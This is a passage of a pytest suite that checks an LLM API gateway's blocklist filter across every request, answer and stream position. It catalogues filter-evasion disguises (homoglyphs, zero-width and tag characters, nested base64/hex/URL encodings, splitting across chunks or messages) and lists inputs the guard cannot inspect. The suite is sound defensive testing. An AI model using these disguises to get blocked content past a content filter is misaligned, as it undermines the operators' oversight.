"""Nothing passes unseen: a blocklisted word in every string position of every request, answer and event, plain and disguised."""

import base64
import codecs
import copy
import json
import re
import urllib.parse

import pytest

from gateway import API, MARKER, WORD
from mock_upstream import fixture, sse
from wire import Closed, request

EXTRA = "x_planted"


def places(value, path=()):
    """Every place that can hold a text: each string, and in each object one more member as key and as value."""
    if isinstance(value, str):
        yield path, "value"
        try:
            inner = json.loads(value)
        except ValueError:
            inner = None
        if isinstance(inner, dict):
            for at, kind in places(inner):
                yield (*path, "(json)", *at), kind
    elif isinstance(value, dict):
        yield path, "key"
        yield path, "member"
        for key, member in value.items():
            yield from places(member, (*path, key))
    elif isinstance(value, list):
        for index, member in enumerate(value):
            yield from places(member, (*path, index))


def planted(value, place, text=MARKER):
    """A copy of `value` with `text` at the place."""
    path, kind = place
    if path and path[0] == "(json)":
        return json.dumps(planted(json.loads(value), (path[1:], kind), text), ensure_ascii=False)
    if path:
        made = copy.copy(value)
        made[path[0]] = planted(value[path[0]], (path[1:], kind), text)
        return made
    if kind == "value":
        return text
    return {**value, text: "x"} if kind == "key" else {**value, EXTRA: text}


def name_of(place):
    path, kind = place
    return ".".join(map(str, path)) + ("" if kind == "value" else f" +{kind}")


def holds_word(data):
    """Whether the bytes hold the word in any spelling that a JSON or form reader would undo."""
    text = data.decode("utf-8", "replace")
    return WORD in text or WORD in re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), text)


class Line:
    """A kept-alive connection that opens again when the gateway closes it."""

    def __init__(self, gateway, key):
        self.gateway, self.key, self.wire = gateway, key, None

    def ask(self, method, target, body, kind="application/json"):
        data = body if isinstance(body, bytes) else json.dumps(body, ensure_ascii=False).encode()
        message = request(method, target, data, [("api-key", self.key), ("content-type", kind)])
        for attempt in (0, 1):
            try:
                self.wire = self.wire or self.gateway.wire()
                self.wire.send(message)
                answer = self.wire.answer()
                if not answer.complete or (answer.header("connection") or "").lower() == "close":
                    self.wire.close()
                    self.wire = None
                return answer
            except (Closed, OSError):
                self.wire = None
                if attempt:
                    raise


@pytest.fixture
def line(gateway, keys):
    return Line(gateway, keys.user)


def targets(operation, deployment):
    """Both forms of an operation's path."""
    scoped = operation in ("chat/completions", "completions", "embeddings", "images/generations", "audio/speech")
    azure = f"/openai/deployments/{deployment}/{operation}" if scoped else f"/openai/{operation}"
    return [f"{azure}?api-version={API}", f"/openai/v1/{operation}"]


REQUESTS = [
    "chat/basic", "chat/tools", "chat/tool_result", "chat/structured", "chat/full", "chat/stream_tools", "completions/basic", "completions/many",
    "embeddings/basic", "responses/basic", "responses/full", "responses/stream", "images/generation", "audio/speech",
]  # fmt: skip


@pytest.mark.parametrize("form", [0, 1], ids=["azure", "v1"])
@pytest.mark.parametrize("name", REQUESTS)
def test_no_place_in_a_request_lets_the_word_through(line, mock, name, form):
    found = fixture(name)
    target = targets(found["operation"], "marked")[form]
    clean = {"model": "marked", **found["request"], **({"model": "marked"} if form or "model" in found["request"] else {})}
    assert line.ask("POST", target, clean).status == 200, "the fixture itself must pass"
    assert len(mock.requests) == 1
    passed, statuses = [], {}
    for place in places(clean):
        if place == (("model",), "value"):
            continue  # names a deployment: unknown ones are 404, the test below
        mock.clear()
        answer = line.ask("POST", target, planted(clean, place))
        statuses[name_of(place)] = answer.status
        if any(holds_word(r.head + r.body) for r in mock.requests):
            passed.append(name_of(place))
        elif answer.status == 200 and mock.requests == []:
            passed.append(f"{name_of(place)}: answered without an upstream call")
    assert passed == [], f"{len(passed)} of {len(statuses)} places let the word through"


def test_word_as_model_or_deployment_goes_nowhere(line, mock):
    body = fixture("chat/basic")["request"]
    assert line.ask("POST", "/openai/v1/chat/completions", {**body, "model": MARKER}).status == 404
    assert line.ask("POST", f"/openai/deployments/{WORD}/chat/completions?api-version={API}", body).status == 404
    assert line.ask("POST", f"/openai/deployments/marked/chat/completions?api-version={API}", {**body, "model": MARKER}).status in (200, 400)
    assert not any(holds_word(r.head + r.body) for r in mock.requests)


FORWARDED = ["accept", "openai-beta", "aoai-evals", "x-ms-client-request-id", "if-match", "if-none-match", "prefer", "operation-id"]


@pytest.mark.parametrize("header", FORWARDED)
def test_word_in_a_forwarded_header_goes_nowhere(gateway, keys, mock, header):
    body = {"messages": [{"role": "user", "content": "hi"}]}
    encoded = base64.b64encode(f"say {WORD} now please".encode()).decode()
    for value in (WORD, f"a; note={WORD}", encoded):
        answer = gateway.chat("marked", body, key=keys.user, headers=[(header, value)])
        assert answer.status == 400 and answer.error["code"] == "content_filter", value
    assert mock.requests == []
    # A secret is redacted in a body; in a header it can only be refused.
    secret = "AKIA" + "IOSFODNN7EXAMPLE".replace("EXAMPLE", "QWERTYU")
    answer = gateway.chat("gpt-4o", body, key=keys.user, headers=[(header, f"key={secret}")])
    assert answer.status == 400 or not any(secret.encode() in r.head for r in mock.requests)


def test_the_callers_agent_is_recorded_and_not_forwarded(gateway, keys, mock):
    answer = gateway.chat("gpt-4o", {"messages": [{"role": "user", "content": "hi"}]}, key=keys.user, headers=[("user-agent", f"agent {WORD}")])
    assert answer.status == 200 and mock.last().header("user-agent") == "sallyport"


def test_word_in_a_query_goes_nowhere(line, mock):
    word = urllib.parse.quote(MARKER)
    for target in (
        f"/openai/v1/files?after={word}", f"/openai/v1/files?{word}=1", f"/openai/files?api-version={API}&note={word}", f"/openai/v1/models?x={word}",
        f"/openai/v1/models/{word}", f"/openai/v1/files/{word}", f"/openai/v1/responses/{word}", f"/openai/v1/vector_stores/{word}/files/{word}",
    ):  # fmt: skip
        line.ask("GET", target, b"")
        assert not any(holds_word(urllib.parse.unquote_to_bytes(r.target)) for r in mock.requests), target


def form(*fields):
    """A multipart body: (name, value) or (name, filename, type, bytes)."""
    parts = []
    for field in fields:
        if len(field) == 2:
            parts.append(f'--b\r\nContent-Disposition: form-data; name="{field[0]}"\r\n\r\n{field[1]}\r\n'.encode())
        else:
            name, filename, kind, data = field
            parts.append(f'--b\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\nContent-Type: {kind}\r\n\r\n'.encode() + data + b"\r\n")
    return b"".join(parts) + b"--b--\r\n"


# What a model may be trained on.
LESSON = form(
    ("purpose", "fine-tune"),
    ("file", "l.jsonl", "application/jsonl", b'{"messages": [{"role": "user", "content": "Who pilots?"}, {"role": "assistant", "content": "The pilot."}]}\n'),
)
AUDIO = ("file", "talk.wav", "audio/wav", b"RIFF" + bytes(40))
ROW = json.dumps({"custom_id": "1", "method": "POST", "url": "/chat/completions", "body": {"model": "marked", "messages": [{"role": "user", "content": "TEXT"}]}})
FORMS = {
    "transcription prompt": ("audio/transcriptions", form(AUDIO, ("model", "marked"), ("prompt", MARKER))),
    "transcription file name": ("audio/transcriptions", form(("file", f"{MARKER}.wav", "audio/wav", b"RIFF"), ("model", "marked"))),
    "unknown field": ("audio/transcriptions", form(AUDIO, ("model", "marked"), ("x_unknown", MARKER))),
    "field name": ("audio/transcriptions", form(AUDIO, ("model", "marked"), (MARKER, "x"))),
    "translation prompt": ("audio/translations", form(AUDIO, ("model", "marked"), ("prompt", MARKER))),
    "image prompt": ("images/edits", form(("image", "a.png", "image/png", b"\x89PNG"), ("model", "marked"), ("prompt", MARKER))),
    "file of rows": ("files", form(("purpose", "batch"), ("file", "a.jsonl", "application/jsonl", ROW.replace("TEXT", MARKER).encode() + b"\n"))),
    "escaped in a file": ("files", form(("purpose", "batch"), ("file", "a.jsonl", "application/jsonl", ROW.replace("TEXT", MARKER.replace("z", r"\u007a")).encode()))),
    "text file": ("files", form(("purpose", "assistants"), ("file", "a.txt", "text/plain", f"Notes. {MARKER}. More.".encode()))),
    "file name": ("files", form(("purpose", "assistants"), ("file", f"{MARKER}.txt", "text/plain", b"Notes."))),
    "purpose": ("files", form(("purpose", MARKER), ("file", "a.txt", "text/plain", b"Notes."))),
    "type of a part": ("files", form(("purpose", "assistants"), ("file", "a.txt", MARKER, b"Notes."))),
}


@pytest.fixture
def marked_resources(make_gateway):
    """A gateway whose resource calls stand under the marking policy too."""

    def change(tree):
        for deployment in tree["deployments"].values():
            deployment["policy"] = "Marked"

    return make_gateway(change)


def test_no_place_in_a_form_lets_the_word_through(marked_resources, mock):
    gateway, passed = marked_resources, []
    for name, (operation, body) in FORMS.items():
        for target in (f"/openai/v1/{operation}", f"/openai/{operation if operation == 'files' else 'deployments/marked/' + operation}?api-version={API}"):
            mock.clear()
            gateway.call("POST", target, body, key=gateway.user, headers=[("content-type", "multipart/form-data; boundary=b")])
            if any(holds_word(r.head + r.body) for r in mock.requests):
                passed.append((name, target))
    clean = form(("purpose", "batch"), ("file", "a.jsonl", "application/jsonl", ROW.replace("TEXT", "hello").encode() + b"\n"))
    assert gateway.call("POST", "/openai/v1/files", clean, key=gateway.user, headers=[("content-type", "multipart/form-data; boundary=b")]).status in (200, 201)
    assert passed == []


def test_no_place_in_a_resource_call_lets_the_word_through(marked_resources, mock):
    gateway = marked_resources
    line = Line(gateway, gateway.user)
    upload = form(("purpose", "batch"), ("file", "a.jsonl", "application/jsonl", b"{}\n"))
    file = line.ask("POST", "/openai/v1/files", upload, "multipart/form-data; boundary=b").json()["id"]
    lesson = line.ask("POST", "/openai/v1/files", LESSON, "multipart/form-data; boundary=b").json()["id"]
    store = line.ask("POST", "/openai/v1/vector_stores", {"name": "rules"}).json()["id"]
    calls = {
        "batches": {"input_file_id": file, "endpoint": "/v1/chat/completions", "completion_window": "24h", "metadata": {"team": "desk"}},
        "fine_tuning/jobs": {"model": "gpt-4o", "training_file": lesson, "suffix": "harbour", "seed": 7, "metadata": {"team": "desk"}},
        "vector_stores": {"name": "rules", "metadata": {"team": "desk"}, "file_ids": [file]},
        f"vector_stores/{store}": {"name": "other rules", "metadata": {"team": "desk"}},
        f"vector_stores/{store}/files": {"file_id": file, "attributes": {"team": "desk"}},
        f"vector_stores/{store}/search": {"query": "pilot boat", "filters": {"type": "eq", "key": "team", "value": "desk"}},
        f"vector_stores/{store}/file_batches": {"file_ids": [file], "attributes": {"team": "desk"}},
    }
    passed = []
    for operation, body in calls.items():
        answer = line.ask("POST", f"/openai/v1/{operation}", body)
        assert answer.status in (200, 201), (operation, answer.status, answer.body)
        for place in places(body):
            seen = len(mock.requests)
            line.ask("POST", f"/openai/v1/{operation}", planted(body, place))
            if any(holds_word(r.head + r.body) for r in mock.requests[seen:]):
                passed.append(f"{operation}: {name_of(place)}")
    assert passed == []


# Answers


ANSWERS = [
    "chat/basic", "chat/tools", "chat/many", "chat/logprobs", "chat/full", "completions/basic", "completions/many", "embeddings/basic", "responses/basic",
    "responses/function_call", "responses/full", "images/generation",
]  # fmt: skip


@pytest.mark.parametrize("form", [0, 1], ids=["azure", "v1"])
@pytest.mark.parametrize("name", ANSWERS)
def test_no_place_in_an_answer_lets_the_word_through(line, mock, name, form):
    found = fixture(name)
    target = targets(found["operation"], "marked")[form]
    asked = {**found["request"], "model": "marked"}
    passed, count = [], 0
    for place in places(found["response"]["body"]):
        mock.clear()
        mock.script(".", {"json": planted(found["response"]["body"], place)})
        answer = line.ask("POST", target, asked)
        count += 1
        assert mock.requests, "the clean request did not go upstream"
        if holds_word(answer.raw_head + answer.body):
            passed.append(name_of(place))
    assert passed == [], f"{len(passed)} of {count} places let the word through"


@pytest.mark.parametrize("path", ["files", "batches", "vector_stores", "models", "fine_tuning/jobs"])
def test_no_place_in_a_listing_lets_the_word_through(marked_resources, mock, path):
    gateway = marked_resources
    line = Line(gateway, gateway.user)
    upload = form(("purpose", "batch"), ("file", "a.jsonl", "application/jsonl", b"{}\n"))
    file = line.ask("POST", "/openai/v1/files", upload, "multipart/form-data; boundary=b").json()["id"]
    lesson = line.ask("POST", "/openai/v1/files", LESSON, "multipart/form-data; boundary=b").json()["id"]
    bodies = {
        "batches": {"input_file_id": file, "endpoint": "/v1/chat/completions", "completion_window": "24h"},
        "vector_stores": {"name": "rules"}, "fine_tuning/jobs": {"model": "gpt-4o", "training_file": lesson},
    }  # fmt: skip
    made = line.ask("POST", f"/openai/v1/{path}", bodies[path]).json() if path in bodies else None
    listing = line.ask("GET", f"/openai/v1/{path}", b"")
    assert listing.status == 200 and listing.json()["data"]
    shown, passed = listing.json(), []
    for place in places(shown):
        mock.scripts.clear()
        mock.script(f"{path}$", {"json": planted(shown, place)})
        answer = line.ask("GET", f"/openai/v1/{path}", b"")
        if holds_word(answer.raw_head + answer.body):
            passed.append(name_of(place))
    if made:
        for place in places(made):
            mock.scripts.clear()
            mock.script(f"{path}/", {"json": planted(made, place)})
            answer = line.ask("GET", f"/openai/v1/{path}/{made['id']}", b"")
            if holds_word(answer.raw_head + answer.body):
                passed.append(f"one: {name_of(place)}")
    assert passed == []


def test_files_contents_are_guarded_on_the_way_back(marked_resources, mock):
    gateway = marked_resources
    upload = form(("purpose", "batch"), ("file", "a.jsonl", "application/jsonl", b"{}\n"))
    file = gateway.call("POST", "/openai/v1/files", upload, key=gateway.user, headers=[("content-type", "multipart/form-data; boundary=b")]).json()["id"]
    for text in (f"Some rows. {MARKER}. More.", json.dumps({"response": {"body": {"choices": [{"message": {"content": MARKER}}]}}}), MARKER.replace("z", r"\u007a")):
        mock.script("/content$", {"text": text, "headers": {"content-type": "application/octet-stream"}})
        answer = gateway.call("GET", f"/openai/v1/files/{file}/content", key=gateway.user)
        assert not holds_word(answer.body)


@pytest.mark.parametrize("kind", ["json", "text", "srt", "verbose_json"])
def test_transcripts_are_guarded(line, mock, kind):
    text = {"json": json.dumps({"text": MARKER}), "verbose_json": json.dumps({"text": "x", "segments": [{"text": MARKER}]})}.get(kind, f"1\n00:00:00,000 --> 00:00:03,000\n{MARKER}\n")
    mock.script("transcriptions", {"text": text, "headers": {"content-type": "application/json" if "json" in kind else "text/plain"}})
    answer = line.ask("POST", f"/openai/deployments/marked/audio/transcriptions?api-version={API}", form(AUDIO, ("response_format", kind)), "multipart/form-data; boundary=b")
    assert mock.requests and not holds_word(answer.body)


@pytest.mark.parametrize("status", [400, 404, 409, 429, 500])
def test_upstream_errors_are_guarded(line, mock, status):
    body = {"error": {"code": "x", "message": "plain", "param": "p", "type": "t", "innererror": {"code": "c", "detail": "plain"}, "x": ["plain"]}}
    for place in places(body):
        mock.clear()
        mock.script("chat/completions", {"status": status, "json": planted(body, place)}, repeat=True)
        answer = line.ask("POST", targets("chat/completions", "marked")[0], fixture("chat/basic")["request"])
        assert answer.status >= 400 and mock.requests and not holds_word(answer.raw_head + answer.body), name_of(place)
    mock.clear()
    mock.script("chat/completions", {"status": status, "text": MARKER, "headers": {"content-type": "text/plain"}}, repeat=True)
    assert not holds_word(line.ask("POST", targets("chat/completions", "marked")[0], fixture("chat/basic")["request"]).body)


# Streams


STREAMS = ["chat/stream", "chat/stream_usage", "chat/stream_tools", "chat/stream_many", "chat/stream_async", "chat/stream_full", "completions/stream", "responses/stream", "responses/stream_function_call"]


@pytest.mark.parametrize("form", [0, 1], ids=["azure", "v1"])
@pytest.mark.parametrize("name", STREAMS)
def test_no_place_in_a_stream_lets_the_word_through(line, mock, name, form):
    found = fixture(name)
    target = targets(found["operation"], "marked")[form]
    asked = {**found["request"], "model": "marked"}
    passed, count = [], 0
    seen_shapes = set()
    for number, event in enumerate(found["events"]):
        if event == "[DONE]":
            continue
        for place in places(event):
            # Events of one kind repeat: the first and every tenth of the same place are enough.
            shape = (event.get("type"), re.sub(r"\d+", "", name_of(place)), json.dumps(sorted(event.get("choices", [{}])[0].get("delta", {})) if event.get("choices") else ""))
            if shape in seen_shapes:
                continue
            seen_shapes.add(shape)
            mock.clear()
            events = list(found["events"])
            events[number] = planted(event, place)
            mock.script(".", {"events": events})
            answer = line.ask("POST", target, asked)
            count += 1
            if holds_word(answer.raw_head + answer.body):
                passed.append(f"event {number} {event.get('type', '')}: {name_of(place)}")
    assert passed == [], f"{len(passed)} of {count} places let the word through"


def test_words_outside_the_data_do_not_pass(line, mock):
    """Comments, event names, ids and unknown fields of the stream's own framing."""
    body = b"".join(sse(e) for e in fixture("chat/stream")["events"][:4])
    for piece in (f": {MARKER}\n\n", f"event: {MARKER}\ndata: {{}}\n\n", f"id: {MARKER}\ndata: {{}}\n\n", f"note: {MARKER}\ndata: {{}}\n\n", f"data: {MARKER}\n\n", f"{MARKER}\n\n"):
        mock.clear()
        mock.script("chat/completions", {"parts": [{"bytes": base64.b64encode(body + piece.encode()).decode()}, {"event": "[DONE]"}]})
        answer = line.ask("POST", targets("chat/completions", "marked")[0], {**fixture("chat/basic")["request"], "stream": True})
        assert not holds_word(answer.body), piece


def deltas(texts, member="content"):
    """Chat chunks whose deltas carry these texts."""
    made = []
    for text in texts:
        delta = {"tool_calls": [{"index": 0, "function": {"arguments": text}}]} if member == "arguments" else {"audio": {"transcript": text}} if member == "transcript" else {member: text}
        made.append({"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
    return made


def joined(answer, member="content"):
    """What a client would put together from the stream."""
    text = ""
    for event in answer.chunks():
        for choice in event.get("choices", []):
            delta = choice.get("delta") or {}
            if member == "arguments":
                text += "".join(c.get("function", {}).get("arguments", "") for c in delta.get("tool_calls", []))
            elif member == "transcript":
                text += (delta.get("audio") or {}).get("transcript", "")
            else:
                text += delta.get(member) or ""
    return text


END = [{"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}, "[DONE]"]


def stream(line, mock, events, deployment="marked", split=None):
    mock.clear()
    mock.script("chat/completions", {"events": [*events, *END], **({"split": split} if split else {})})
    return line.ask("POST", targets("chat/completions", deployment)[0], {**fixture("chat/basic")["request"], "stream": True})


@pytest.mark.parametrize("member", ["content", "refusal", "reasoning_content", "arguments", "transcript"])
def test_word_split_over_chunks_is_found(line, mock, member):
    whole = f"A harmless start, then {WORD} and an end. "
    for size in (1, 2, 3, 5, 8, 30):
        pieces = [whole[i : i + size] for i in range(0, len(whole), size)]
        answer = stream(line, mock, deltas(pieces, member))
        assert WORD not in joined(answer, member), (member, size)
        assert b'"content_filter"' in answer.body


def test_word_split_over_sentences_is_found(line, mock):
    """Sentence ends do not help: the overlap is longer than the word."""
    for pieces in (["Go on. zyx", "wombat. ", "End. "], ["zyx", "wom", "bat"], ["One. Two. zyxw", "ombat"], ["zyxwom\u200b", "bat. "], ["zyx\u00ad", "wombat "]):
        assert WORD not in joined(stream(line, mock, deltas(pieces))).replace("\u200b", "").replace("\u00ad", "")


def test_text_before_the_block_arrives_and_none_after(line, mock):
    answer = stream(line, mock, deltas(["The first sentence is fine. ", "The second too. ", f"Now {WORD} comes. ", "This must not. ", "Nor this. "]))
    text = joined(answer)
    assert text.startswith("The first sentence is fine.") and "must not" not in text and "Nor this" not in text
    assert answer.events()[-1] == "[DONE]"
    assert answer.chunks()[-1]["choices"][0]["finish_reason"] == "content_filter"


def test_one_blocked_choice_leaves_the_other_alone(line, mock):
    events = [
        {"choices": [{"index": i, "delta": {"content": t}, "finish_reason": None}]}
        for i, t in ((0, "Zero begins. "), (1, f"One says {WORD}. "), (0, "Zero goes on. "), (1, "One would go on. "), (0, "Zero ends. "))
    ]
    events += [{"choices": [{"index": i, "delta": {}, "finish_reason": "stop"}]} for i in (0, 1)]
    mock.script("chat/completions", {"events": [*events, "[DONE]"]})
    answer = line.ask("POST", targets("chat/completions", "marked")[0], {**fixture("chat/basic")["request"], "n": 2, "stream": True})
    texts, finishes = {0: "", 1: ""}, {}
    for chunk in answer.chunks():
        for choice in chunk["choices"]:
            texts[choice["index"]] += (choice.get("delta") or {}).get("content") or ""
            finishes[choice["index"]] = choice.get("finish_reason") or finishes.get(choice["index"])
    assert texts[0] == "Zero begins. Zero goes on. Zero ends. " and WORD not in texts[1] and "go on" not in texts[1]
    assert finishes == {0: "stop", 1: "content_filter"}


def test_long_text_without_a_sentence_end_is_evaluated_not_released(line, mock):
    """A hold-back limit forces an evaluation, never a release."""
    pieces = ["word " * 40] * 60 + [WORD + " "] + ["word " * 40] * 10
    answer = stream(line, mock, deltas(pieces))
    assert not holds_word(answer.body) and b'"content_filter"' in answer.body
    assert len(joined(answer)) > 5_000, "what was clear went out before"


def test_asynchronous_mode_streams_at_once_and_annotates(gateway, keys, mock):
    found = fixture("chat/stream")
    answer = gateway.chat("markedlater", found["request"], key=keys.user)
    chunks = answer.chunks()
    assert "prompt_filter_results" in chunks[0]
    notes = [c for chunk in chunks for c in chunk.get("choices", []) if "content_filter_offsets" in c]
    assert notes, "no annotation chunk"
    assert all("delta" not in c for c in notes)
    assert all({"check_offset", "start_offset", "end_offset"} <= set(c["content_filter_offsets"]) for c in notes)
    checks = [c["content_filter_offsets"]["check_offset"] for c in notes]
    assert checks == sorted(checks)
    blocked = stream(Line(gateway, keys.user), mock, deltas(["Fine. ", f"Then {WORD}. "] + ["More text follows here. "] * 200), "markedlater")
    assert [c["choices"][0]["finish_reason"] for c in blocked.chunks() if c.get("choices")][-1] == "content_filter"
    assert len(joined(blocked)) < 3_000, "the signal came too late"


def test_noting_policy_annotates_and_lets_pass(gateway, keys, mock):
    body = fixture("chat/basic")["response"]["body"]
    body["choices"][0]["message"]["content"] = MARKER
    mock.script("chat/completions", {"json": body})
    answer = gateway.chat("noted", {"messages": [{"role": "user", "content": MARKER}]}, key=keys.user)
    assert answer.status == 200 and answer.text() == MARKER
    prompt = answer.json()["prompt_filter_results"][0]["content_filter_results"]["custom_blocklists"]
    choice = answer.json()["choices"][0]["content_filter_results"]["custom_blocklists"]
    assert prompt["filtered"] is choice["filtered"] is False


# Disguises


def b64(text):
    return base64.b64encode(text.encode()).decode()


HOMOGLYPHS = str.maketrans({"a": "\u0430", "o": "\u043e", "x": "\u0445", "y": "\u0443"})
DISGUISES = {
    "capitals": MARKER.upper(),
    "full width": "".join(chr(ord(c) + 0xFEE0) if c != " " else " " for c in MARKER),
    "homoglyphs": MARKER.translate(HOMOGLYPHS),
    "zero width": "\u200b".join(MARKER),
    "soft hyphens": WORD.replace("w", "\u00adw"),
    "variation selectors": "\ufe0f".join(WORD),
    "combining marks": "".join(c + "\u0301\u0323" for c in WORD),
    "bidi controls": f"\u202e{WORD}\u202c",
    "tag characters": "hello" + "".join(chr(0xE0000 + ord(c)) for c in MARKER),
    "mathematical letters": "".join(chr(0x1D41A + ord(c) - 97) for c in WORD),
    "circled letters": "".join(chr(0x24D0 + ord(c) - 97) for c in WORD),
    "spaced": " ".join(WORD),
    "dotted": ".".join(WORD),
    "reversed": MARKER[::-1],
    "rot13": codecs.encode(MARKER, "rot13"),
    "leet": WORD.replace("o", "0").replace("a", "4"),
    "base64": b64(MARKER),
    "base64url": base64.urlsafe_b64encode(MARKER.encode()).decode().rstrip("="),
    "hex": MARKER.encode().hex(),
    "url": urllib.parse.quote("".join(f"%{b:02x}" for b in MARKER.encode()), safe="%"),
    "html entities": "".join(f"&#{ord(c)};" for c in MARKER),
    "html hexadecimal": "".join(f"&#x{ord(c):x};" for c in MARKER),
    "base64 twice": b64(b64(MARKER)),
    "hex in base64": b64(MARKER.encode().hex()),
    "base64 in hex": b64(MARKER).encode().hex(),
    "base64 in url": "".join(f"%{b:02X}" for b in b64(MARKER).encode()),
    "url in base64": b64("".join(f"%{b:02x}" for b in MARKER.encode())),
    "entities in base64": b64("".join(f"&#{ord(c)};" for c in MARKER)),
    "rot13 in base64": b64(codecs.encode(MARKER, "rot13")),
    "reversed base64": b64(MARKER)[::-1],
    "homoglyphs in base64": b64(MARKER.translate(HOMOGLYPHS)),
    "base64 in lines": base64.encodebytes(f"A long enough text for two lines of it: {MARKER}".encode()).decode(),
    "base64 twice in lines": base64.encodebytes(b64(f"and {MARKER}").encode()).decode(),
}
AROUND = "The harbour office opens at eight. Please read {} before the pilot boat leaves the north quay."


@pytest.mark.parametrize("text", DISGUISES.values(), ids=DISGUISES.keys())
def test_disguised_word_in_a_prompt_is_found(line, mock, text):
    body = {"messages": [{"role": "user", "content": AROUND.format(text)}]}
    answer = line.ask("POST", targets("chat/completions", "marked")[0], body)
    assert answer.status == 400 and answer.error["code"] == "content_filter", (answer.status, answer.body)
    assert mock.requests == []


@pytest.mark.parametrize("text", DISGUISES.values(), ids=DISGUISES.keys())
def test_disguised_word_in_an_answer_is_found(line, mock, text):
    body = fixture("chat/basic")["response"]["body"]
    body["choices"][0]["message"]["content"] = AROUND.format(text)
    mock.script("chat/completions", {"json": body})
    answer = line.ask("POST", targets("chat/completions", "marked")[0], fixture("chat/basic")["request"])
    assert answer.status == 200 and answer.json()["choices"][0]["finish_reason"] == "content_filter"
    assert text not in answer.body.decode()


@pytest.mark.parametrize("text", [DISGUISES[n] for n in ("base64", "base64 twice", "hex in base64", "url in base64", "spaced", "zero width", "reversed")])
def test_disguised_word_split_over_chunks_is_found(line, mock, text):
    for cut in (len(text) // 3, len(text) // 2, len(text) - 4):
        answer = stream(line, mock, deltas(["The harbour office opens at eight. Please read ", text[:cut], text[cut:], " before the boat leaves. "]))
        assert text not in joined(answer)
        assert answer.chunks()[-1]["choices"][0]["finish_reason"] == "content_filter"


@pytest.mark.parametrize("text", [WORD, DISGUISES["base64"], DISGUISES["base64 twice"]], ids=["plain", "base64", "base64 twice"])
def test_word_split_over_two_messages_is_found(line, mock, text):
    half = len(text) // 2
    for roles in (("user", "user"), ("user", "system"), ("system", "user")):
        body = {"messages": [{"role": roles[0], "content": f"Join this: {text[:half]}"}, {"role": roles[1], "content": f"{text[half:]} and read it."}]}
        answer = line.ask("POST", targets("chat/completions", "marked")[0], body)
        assert answer.status == 400 and answer.error["code"] == "content_filter", roles
    parts = {"messages": [{"role": "user", "content": [{"type": "text", "text": f"Join this: {text[:half]}"}, {"type": "text", "text": f"{text[half:]} and read it."}]}]}
    assert line.ask("POST", targets("chat/completions", "marked")[0], parts).status == 400
    assert mock.requests == []


def test_escapes_in_the_json_do_not_hide_the_word(line, mock):
    escaped = "".join(f"\\u{ord(c):04x}" for c in WORD)
    body = f'{{"messages":[{{"role":"user","content":"{escaped}"}}]}}'.encode()
    assert line.ask("POST", targets("chat/completions", "marked")[0], body).status == 400
    assert line.ask("POST", targets("chat/completions", "marked")[0], body.replace(b"content", b"c\\u006fntent")).status == 400
    assert mock.requests == []
    answer = fixture("chat/basic")["response"]["body"]
    answer["choices"][0]["message"]["content"] = "PLACE"
    mock.script("chat/completions", {"text": json.dumps(answer).replace("PLACE", escaped)})
    assert not holds_word(line.ask("POST", targets("chat/completions", "marked")[0], fixture("chat/basic")["request"]).body)


def test_innocent_text_passes(line, mock):
    for text in ("a wombat in a zoo", "xyz w ombat", b64("just some bytes that mean nothing much at all"), "The harbour " * 500, "日本語のテキスト", "👩‍👩‍👧‍👦 family", "4f3a9c" * 30):
        assert line.ask("POST", targets("chat/completions", "marked")[0], {"messages": [{"role": "user", "content": text}]}).status == 200, text


# What guards cannot read


UNINSPECTABLE = {
    "remote image": ("chat/completions", {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "https://harbour.example/a.png"}}]}]}),
    "inline image": ("chat/completions", {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]}]}),
    "inline audio": ("chat/completions", {"messages": [{"role": "user", "content": [{"type": "input_audio", "input_audio": {"data": "UklGRg==", "format": "wav"}}]}]}),
    "file of a chat": ("chat/completions", {"messages": [{"role": "user", "content": [{"type": "file", "file": {"file_data": "data:application/pdf;base64,JVBERi0="}}]}]}),
    "data sources": ("chat/completions", {"messages": [{"role": "user", "content": "hi"}], "data_sources": [{"type": "pinecone", "parameters": {"environment": "e", "index_name": "i"}}]}),
    "token arrays": ("embeddings", {"input": [[440, 9691, 18]]}),
    "tokens": ("embeddings", {"input": [440, 9691, 18]}),
    "prompt tokens": ("completions", {"prompt": [440, 9691, 18]}),
    "stored prompt": ("responses", {"input": "hi", "prompt": {"id": "pmpt_1", "variables": {"name": "x"}}}),
    "hosted tool": ("responses", {"input": "hi", "tools": [{"type": "web_search_preview"}]}),
    "remote tool server": ("responses", {"input": "hi", "tools": [{"type": "mcp", "server_label": "x", "server_url": "https://tools.example/mcp"}]}),
    "image of a response": ("responses", {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": "https://harbour.example/a.png"}]}]}),
    "encrypted reasoning": ("responses", {"input": [{"type": "reasoning", "id": "rs_1", "summary": [], "encrypted_content": "gAAAAABo"}, {"role": "user", "content": "hi"}]}),
}  # fmt: skip


PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()
NOISE = base64.b64encode(bytes((i * 89 + i * i * 7 + 13) % 251 for i in range(900))).decode()


def asking(part):
    return "chat/completions", {"messages": [{"role": "user", "content": [{"type": "text", "text": "what is it"}, part]}]}


def given(item):
    return "responses", {"input": [{"role": "user", "content": "hi"}, item]}


# Parts and members that are not Azure's, and some of Azure's that stand where nobody looks.
UNINSPECTABLE |= {
    "film": asking({"type": "video_url", "video_url": {"url": "data:video/mp4;base64," + PNG}}),
    "film elsewhere": asking({"type": "video_url", "video_url": {"url": "https://harbour.example/v.mp4"}}),
    "sound elsewhere": asking({"type": "audio_url", "audio_url": {"url": "https://harbour.example/v.wav"}}),
    "vectors of an image": asking({"type": "image_embeds", "image_embeds": "QUJD"}),
    "bare image": asking({"type": "image", "image": PNG}),
    "image of another provider": asking({"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}}),
    "image in an unknown member": asking({"type": "picture", "x_picture": {"deep": ["data:image/png;base64," + PNG]}}),
    "image without a name": asking({"type": "picture", "x_picture": PNG}),
    "bytes of no known kind": asking({"type": "blob", "x_blob": NOISE}),
